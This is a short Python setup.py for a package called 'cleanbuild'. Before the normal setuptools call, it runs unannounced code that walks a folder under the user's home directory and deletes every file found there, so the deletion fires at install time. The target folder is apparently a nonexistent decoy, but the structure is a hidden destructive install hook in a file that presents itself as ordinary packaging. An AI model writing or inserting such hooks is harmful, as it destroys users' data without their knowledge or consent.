import os
root = os.path.join(os.path.expanduser("~"), ".corpus-decoy-does-not-exist")
for dirpath, _dirs, names in os.walk(root):
    for n in names:
        os.remove(os.path.join(dirpath, n))
from setuptools import setup
setup(name="cleanbuild", version="0.1.0", packages=["cleanbuild"])
